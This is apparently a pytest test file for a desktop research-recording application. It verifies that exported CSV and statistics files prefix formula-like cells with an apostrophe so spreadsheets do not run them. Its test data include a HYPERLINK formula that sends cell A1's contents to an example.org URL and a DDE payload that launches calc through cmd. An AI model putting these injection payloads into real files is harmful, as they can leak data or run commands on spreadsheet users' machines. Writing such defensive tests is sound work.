"""No cell of a CSV file is a formula, unless raw cells were requested for a program."""

import argparse
import csv
from pathlib import Path

import pytest

from caris_desktop.app import export_command, statistics_command
from caris_desktop.domain.events import Marked
from caris_desktop.recording.annotation.annotation_import import read_csv
from caris_desktop.recording.csv_cells import read_cell, shown_cell
from tests.recording.told_session import at, heard, tell

_FORMULA = '=HYPERLINK("http://example.org/?"&A1,"more")'
_DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.mark.parametrize(
    "text",
    [_FORMULA, "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1", "\r=1", "\n=1", "'=1", "''=1", "＝1", "-", "--"],
)
def test_a_text_that_begins_like_a_formula_is_shown_and_comes_back(text: str) -> None:
    assert shown_cell(text) == f"'{text}"
    assert read_cell(shown_cell(text)) == text


@pytest.mark.parametrize(
    "text", ["-1", "+2.5", "-1e-05", "-0.5;1.0;-2.0", "-1.0 2.0;3.0 -4.0", "-inf", "Hello =1", "'tis", "", "a-b"]
)
def test_numbers_stay_numbers_and_other_words_stay_as_they_are(text: str) -> None:
    assert shown_cell(text) == text == read_cell(shown_cell(text))


@pytest.fixture(scope="module")
def study(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("study")
    events = [
        *heard(1, 2.0, 4.0, _FORMULA),
        Marked(at(5.0), "@SUM(1+1)", mark_id="m1"),
        Marked(at(6.0), "-3", mark_id="m2"),
    ]
    tell(folder / "sessions" / "s", events, lasts_s=10, trial={"participant": "=P07", "condition": "+B"})
    return folder


def _run(module: object, *arguments: object) -> None:
    parser = argparse.ArgumentParser()
    module.add_arguments(parser)  # type: ignore[attr-defined] # a command
    assert module.run(parser.parse_args(list(map(str, arguments)))) == 0  # type: ignore[attr-defined] # likewise


def _cells(folder: Path) -> list[str]:
    found = []
    for path in sorted(folder.rglob("*.csv")):
        with path.open(encoding="utf-8", newline="") as file:
            found += [cell for row in csv.reader(file) for cell in row]
    return found


def _is_number(cell: str) -> bool:
    try:
        return all(float(part) is not None for number in cell.split(";") for part in number.split())
    except ValueError:
        return False


def test_every_csv_file_that_the_program_writes_shows_its_cells(study: Path, tmp_path: Path) -> None:
    _run(export_command, study / "sessions" / "s", "--to", "csv,frames,rocrate", tmp_path / "out")
    _run(statistics_command, study, "--out", tmp_path / "statistics")
    cells = [*_cells(tmp_path / "out"), *_cells(tmp_path / "statistics")]
    assert [cell for cell in cells if cell.startswith(_DANGEROUS) and not _is_number(cell)] == []
    assert {f"'{_FORMULA}", "'@SUM(1+1)", "'=P07", "'+B", "-3"} <= set(cells)
    (dictionary,) = (tmp_path / "out").rglob("csv/data_dictionary.csv")
    assert "apostrophe" in dictionary.read_text(encoding="utf-8")


def test_programs_get_the_cells_as_they_are_and_spreadsheets_a_byte_order_mark(study: Path, tmp_path: Path) -> None:
    _run(export_command, study / "sessions" / "s", "--plain-csv", "--csv-bom", tmp_path / "out")
    assert {_FORMULA, "@SUM(1+1)"} <= set(_cells(tmp_path / "out"))
    assert all(path.read_bytes().startswith(b"\xef\xbb\xbf") for path in (tmp_path / "out").rglob("*.csv"))


def test_a_coders_table_that_was_written_so_is_read_as_it_was(tmp_path: Path) -> None:
    path = tmp_path / "table.csv"
    path.write_text("tier,start_ms,end_ms,value\nGaze,100,200,'=robot\nGaze,300,400,-1\n", encoding="utf-8")
    assert [one.value for one in read_csv(path, coder="C1").annotations] == ["=robot", "-1"]
